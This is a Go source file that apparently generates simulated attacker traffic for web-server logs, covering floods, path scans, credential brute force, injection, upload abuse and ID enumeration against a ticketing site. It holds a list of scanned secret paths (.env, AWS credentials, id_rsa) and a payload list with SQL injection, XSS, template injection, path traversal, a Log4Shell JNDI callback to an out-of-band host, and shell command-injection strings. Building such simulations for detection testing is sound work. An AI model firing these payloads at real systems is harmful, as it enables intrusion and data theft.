package main

import (
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// attacks are the day's lone attackers: each kind once or twice, from its
// own address, at its own time.
func (w *world) attacks(r *rand.Rand) {
	Attacks(r,
		Attack{Run: w.flood, Second: 0.3},
		Attack{Run: w.scan, Second: 0.4},
		Attack{Run: w.bruteforce, Second: 0.4},
		Attack{Run: w.injection, Second: 0.3},
		Attack{Run: w.upload, Second: 0.2},
		Attack{Run: w.enumeration, Second: 0.3},
	)
}

// attacker returns a new address of kind: a rented server, a residential
// proxy in the site's country, a line abroad, now and then an IPv6 one.
func (w *world) attacker(r *rand.Rand, kind string) *Client {
	reg := w.s.region
	var ip string
	switch Weighted(r, []float64{0.4, 0.35, 0.2, 0.05}) {
	case 0:
		ip = w.l.V4(r, vpsNets)
	case 1:
		ip = w.l.V4(r, reg.home)
	case 2:
		ip = w.l.V4(r, reg.foreign)
	default:
		ip = w.l.V6In(r, V6Net(r, reg.homeV6))
	}
	return w.l.Client(ip, kind)
}

// disguise returns the user agent an attacker shows: mostly a browser's,
// sometimes the site's app, now and then its tool's own.
func (w *world) disguise(r *rand.Rand, tools ...string) (ua string, app bool) {
	switch x := r.Float64(); {
	case x < 0.55:
		return Pick(r, browserUAs), false
	case x < 0.7:
		return Pick(r, phoneBrowserUAs), false
	case x < 0.88 || len(tools) == 0:
		return w.s.appUA(r), true
	}
	return Pick(r, tools), false
}

// span draws when an attack runs: it starts somewhere in the window and
// lasts lo to hi seconds (or until the window closes).
func (w *world) span(r *rand.Rand, lo, hi float64) (start, end int64) {
	start = Sec(Uniform(r, 0.03, 0.75) * float64(w.win) / 1e9)
	return start, min(w.win, start+Sec(Uniform(r, lo, hi)))
}

// flood is one address sending 10 to 200 requests a second to a handful of
// ordinary pages: an event page, the home page, an event's details, a
// GraphQL read; the answers are mostly ordinary ones.
func (w *world) flood(r *rand.Rand) {
	s := w.s
	c := w.attacker(r, "flood")
	ua, app := w.disguise(r, "Mozilla/5.0", "python-requests/2.31.0")
	v := w.newVisit(r, func(int64) *Client { return c }, 0, app, ua)
	v.attack = true
	if Chance(r, 0.25) {
		v.user = s.user(r)
	}
	e := s.event(r)
	if Chance(r, 0.4) {
		e = &w.sale.ev
	}
	id := strconv.Itoa(e.id)
	type target struct {
		method, path string
		kbs, ms      float64
	}
	all := []target{
		{"GET", "/events/" + e.slug, 85, 55},
		{"GET", "/", 110, 50},
		{"GET", "/api/v3/events/" + id, 14, 45},
		{"POST", "/graphql?op=EventDetails", 14, 45},
		{"GET", "/api/v3/events?city=" + s.city + "&sort=popular&limit=24", 22, 80},
		{"GET", "/api/v3/events/" + id + "/seatmap", 340, 140},
		{"POST", "/graphql?op=HomeFeed", 28, 120},
	}
	targets := pickN(r, all, 2+r.IntN(4))
	start, end := w.span(r, 45, 240)
	Poisson(r, LogUniform(r, 10, 200), start, end, func(t int64) {
		v.t = t
		g := Pick(r, targets)
		status := 200
		if Chance(r, 0.03) {
			status = Pick(r, []int{502, 503})
		}
		var body int64
		if g.method == "POST" {
			body = 380
		}
		v.send(g.method, g.path, status, body, kb(r, g.kbs), g.ms)
	})
}

// scan walks a list of paths that exist on other sites: admin pages, leaked
// configuration, backups, debugging endpoints. Nearly all are missing here.
func (w *world) scan(r *rand.Rand) {
	c := w.attacker(r, "scan")
	ua, _ := w.disguise(r, "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "curl/8.5.0")
	v := w.newVisit(r, func(int64) *Client { return c }, 0, false, ua)
	v.attack = true
	v.hdr = 200
	paths := slices.Clone(scanPaths)
	for _, name := range []string{"backup", "site", "www", "gatehouse", "db", "prod", "dump", "old"} {
		for _, ext := range []string{".zip", ".tar.gz", ".sql", ".bak", ".7z"} {
			paths = append(paths, "/"+name+ext)
		}
	}
	r.Shuffle(len(paths), func(i, j int) { paths[i], paths[j] = paths[j], paths[i] })
	paths = paths[:len(paths)/2+r.IntN(len(paths)/2)]
	start, end := w.span(r, 60, 420)
	rate := LogUniform(r, 0.5, 15)
	v.t = start
	v.get("/", 200, 110, 50)
	for _, p := range paths {
		v.t += Sec(r.ExpFloat64() / rate)
		if v.t >= end {
			break
		}
		status := 404
		switch {
		case p == "/robots.txt" || p == "/sitemap.xml" || p == "/.well-known/security.txt":
			status = 200
		case strings.HasPrefix(p, "/.git") || strings.HasPrefix(p, "/.svn") || p == "/server-status" || strings.HasPrefix(p, "/WEB-INF"):
			status = 403
		case strings.HasPrefix(p, "/boxoffice/") || strings.HasPrefix(p, "/admin"):
			status = Pick(r, []int{401, 403, 302})
		case strings.HasPrefix(p, "/graphql"):
			status = 400
		case strings.Contains(p, ".."):
			status = 400
		}
		resp := kb(r, 1.5)
		if status == 200 {
			resp = kb(r, 2)
		}
		v.send("GET", p, status, 0, resp, 8)
	}
}

var scanPaths = []string{
	"/.env", "/.env.production", "/.env.local", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store",
	"/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wp-content/plugins/", "/admin", "/admin/login", "/administrator/",
	"/phpmyadmin/", "/pma/", "/config.php.bak", "/config.json", "/config.yml", "/.aws/credentials", "/server-status",
	"/actuator/env", "/actuator/heapdump", "/api/v3/swagger.json", "/swagger-ui.html", "/v2/api-docs", "/openapi.json",
	"/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/", "/solr/admin/info/system", "/jenkins/login", "/console",
	"/debug/pprof/", "/web.config", "/WEB-INF/web.xml", "/owa/auth/logon.aspx", "/remote/login", "/_ignition/execute-solution",
	"/telescope/requests", "/storage/logs/laravel.log", "/.vscode/sftp.json", "/id_rsa", "/boxoffice/api/users",
	"/boxoffice/api/export?all=1", "/api/v1/", "/api/v2/events", "/api/internal/health", "/static/../../../etc/passwd",
	"/old/", "/test/", "/staging/", "/backup/", "/uploads/", "/info.php", "/phpinfo.php", "/.well-known/security.txt",
	"/robots.txt", "/sitemap.xml", "/crossdomain.xml", "/.htaccess", "/.htpasswd", "/elmah.axd", "/trace.axd",
	"/api/v3/admin/users", "/api/v3/debug", "/metrics", "/.circleci/config.yml", "/docker-compose.yml", "/Dockerfile",
}

// bruteforce is one address guessing the password of one to three
// accounts, or the one-time code of an account whose password it has; fast
// or a guess every few seconds. Accounts lock after enough failures.
func (w *world) bruteforce(r *rand.Rand) {
	s := w.s
	c := w.attacker(r, "bruteforce")
	ua, app := w.disguise(r, "python-requests/2.32.3", "Hydra", "okhttp/4.9.0")
	v := w.newVisit(r, func(int64) *Client { return c }, 0, app, ua)
	start, end := w.span(r, 120, 600)
	v.t = start
	every := func() float64 { return Uniform(r, 2, 6) }
	if Chance(r, 0.5) {
		fast := LogUniform(r, 0.25, 1.5)
		every = func() float64 { return fast * Uniform(r, 0.7, 1.3) }
	}
	if !app {
		v.page("/login", 25)
	}
	v.attack = true
	if Chance(r, 0.35) {
		// The password is known (from another breach); the code is not.
		v.post("/api/v3/auth/login", 200, 180, 1.1, 260)
		v.user = s.user(r)
		wrong := 0
		for v.t < end {
			v.pause(0.8*every(), 1.2*every())
			v.post("/api/v3/auth/otp", 401, 60, 0.1, 90)
			if wrong++; wrong%5 == 0 {
				// After five wrong codes the code is void; ask for a new one.
				v.pause(1, 4)
				v.post("/api/v3/auth/otp/resend", Pick(r, []int{202, 202, 429}), 40, 0.1, 120)
			}
		}
		return
	}
	accounts := 1 + r.IntN(3)
	lock := 10 + r.IntN(20)
	for a := 0; a < accounts && v.t < end; a++ {
		stop := lock + 3 + r.IntN(5) // it notices the lock after a few more
		for i := 0; i < stop && v.t < end; i++ {
			v.t += Sec(every())
			switch {
			case i >= lock:
				v.post("/api/v3/auth/login", 423, 180, 0.1, 60)
			case Chance(r, 0.01):
				v.post("/api/v3/auth/login", 200, 180, 1.1, 260)
				v.user = s.user(r)
				v.pause(0.5, 2)
				v.read("/api/v3/me/tickets", "MyTickets", 6, 70)
				return
			default:
				v.post("/api/v3/auth/login", 401, 180, 0.1, 240)
			}
		}
	}
}

// injection is an ordinary-looking session, signed in or not, in which a
// share of the requests carry a payload in a query value: SQL, script,
// template expressions, path traversal.
func (w *world) injection(r *rand.Rand) {
	s := w.s
	c := w.attacker(r, "injection")
	ua, app := w.disguise(r)
	v := w.newVisit(r, func(int64) *Client { return c }, 0, app, ua)
	start, end := w.span(r, 120, 600)
	v.t = start
	if Chance(r, 0.5) {
		v.user = s.user(r)
	}
	share := Uniform(r, 0.15, 0.4)
	raw := strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")
	pRaw, pOnce := Uniform(r, 0, 0.4), Uniform(r, 0.6, 1)
	v.eventView(s.event(r))
	for v.t < end {
		v.think(Uniform(r, 2, 8))
		if !Chance(r, share) {
			switch r.IntN(3) {
			case 0:
				v.eventView(s.event(r))
			case 1:
				v.search(query(r, s))
			default:
				v.read("/api/v3/events?city="+s.city+"&page="+strconv.Itoa(1+r.IntN(4)), "BrowseCategory", 20, 75)
			}
			continue
		}
		p := EncodeQuery(r, Pick(r, payloads[r.IntN(len(payloads))]), raw, pRaw, pOnce)
		e := s.event(r)
		var path string
		switch r.IntN(7) {
		case 0:
			path = "/api/v3/search?q=" + p
		case 1:
			path = "/api/v3/events?city=" + p + "&sort=popular"
		case 2:
			path = "/api/v3/events?category=" + p + "&page=1"
		case 3:
			path = "/api/v3/events/" + strconv.Itoa(e.id) + "/availability?section=" + p
		case 4:
			path = "/events/" + e.slug + "?ref=" + p
		case 5:
			path = "/search?q=" + p
		default:
			path = "/api/v3/me/orders?status=" + p
		}
		status := []int{400, 200, 500, 403}[Weighted(r, []float64{0.45, 0.4, 0.1, 0.05})]
		v.attack = true
		v.send("GET", path, status, 0, kb(r, 2), 60)
		v.attack = false
	}
}

var payloads = [][]string{
	{"' OR '1'='1", "1' OR 1=1-- -", "' UNION SELECT NULL,NULL,version()-- -", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", `" OR ""="`, "1) OR (1=1", "admin'--", "' AND extractvalue(1,concat(0x7e,(select user())))-- -"},
	{"<script>alert(1)</script>", `"><img src=x onerror=alert(document.domain)>`, "<svg/onload=confirm(1)>", "javascript:alert(1)", "'-alert(1)-'", `<iframe src="javascript:alert(1)">`},
	{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}", "${{<%[%'\"}}%\\.", "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", `..\..\..\windows\win.ini`, "/etc/passwd%00.jpg"},
	{"${jndi:ldap://x7k2.oast.fun/a}", "; cat /etc/passwd", "| id", "`sleep 5`"},
}

// upload is a signed-in account sending files of 10 to 80 MB to the ID
// verification endpoint a few times a minute; those over the site's limit
// are cut off early with 413.
func (w *world) upload(r *rand.Rand) {
	s := w.s
	c := w.attacker(r, "upload")
	ua, app := w.disguise(r, "python-requests/2.32.3")
	v := w.newVisit(r, func(int64) *Client { return c }, 0, app, ua)
	start, end := w.span(r, 180, 600)
	v.t = start
	v.post("/api/v3/auth/login", 200, 180, 1.1, 260)
	v.user = s.user(r)
	ticket := strconv.Itoa(s.ticketBase - 1 - r.IntN(3000000))
	v.pause(2, 10)
	v.post("/api/v3/resale/listings", 201, 260, 0.9, 150)
	mbps := LogUniform(r, 4, 40)
	for v.t < end {
		v.pause(8, 30)
		if Chance(r, 0.2) {
			v.read("/api/v3/resale/listings?ticket="+ticket, "ResaleListing", 1.5, 50)
			v.pause(1, 5)
		}
		size := int64(Uniform(r, 10, 80) * (1 << 20))
		v.attack = true
		if size > s.uploadLimit {
			part := int64(Uniform(r, 64<<10, 2<<20))
			v.send("POST", "/api/v3/resale/verify", 413, part, kb(r, 0.2), 1000*float64(part)/(1<<20)/mbps)
		} else {
			v.send("POST", "/api/v3/resale/verify", Pick(r, []int{201, 201, 422}), size, kb(r, 0.4), 1000*float64(size)/(1<<20)/mbps)
		}
		v.attack = false
	}
}

// enumeration is a signed-in account walking order and ticket ids from
// near its own: most belong to others (403) or do not exist (404), and a
// route that forgets to check the owner lets a few through.
func (w *world) enumeration(r *rand.Rand) {
	s := w.s
	c := w.attacker(r, "enumeration")
	ua, app := w.disguise(r, "python-requests/2.32.3", "PostmanRuntime/7.42.0")
	v := w.newVisit(r, func(int64) *Client { return c }, 0, app, ua)
	start, end := w.span(r, 120, 540)
	v.t = start
	v.user = s.user(r)
	v.read("/api/v3/me/tickets", "MyTickets", 6, 70)
	order, ticket := w.orders-r.IntN(40000), w.tickets-r.IntN(90000)
	step := 1
	if Chance(r, 0.35) {
		step = 1 + r.IntN(7)
	}
	if Chance(r, 0.25) {
		step = -step
	}
	leak := Uniform(r, 0.03, 0.15)
	which := r.IntN(3) // orders, tickets or both
	rate := LogUniform(r, 0.7, 6)
	v.attack = true
	for i := 0; ; i++ {
		v.t += Sec(r.ExpFloat64() / rate)
		if v.t >= end {
			break
		}
		var path string
		if which == 0 || which == 2 && i%2 == 0 {
			order += step
			path = "/api/v3/orders/" + strconv.Itoa(order)
		} else {
			ticket += step
			path = "/api/v3/tickets/" + strconv.Itoa(ticket)
		}
		switch x := r.Float64(); {
		case x < leak:
			v.get(path, 200, 2.5, 40)
		case x < 0.75:
			v.get(path, 403, 0.1, 25)
		default:
			v.get(path, 404, 0.1, 20)
		}
	}
}
